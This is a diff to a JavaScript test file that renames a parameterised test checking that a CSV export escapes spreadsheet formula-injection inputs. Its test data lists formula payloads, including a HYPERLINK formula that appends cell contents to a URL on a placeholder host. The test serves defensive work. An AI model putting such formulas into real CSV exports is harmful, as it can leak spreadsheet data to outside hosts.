@@ -11,7 +11,7 @@ afterAll(endDatabases);
 
 const formulas = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '=HYPERLINK("http://x.test?"&A1)'];
 
-test.each(formulas)('escapes the CSV formula %j', (text) => {
+test.each(formulas)('the CSV export escapes the formula %j', (text) => {
   expect(csvCell(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
 });
 
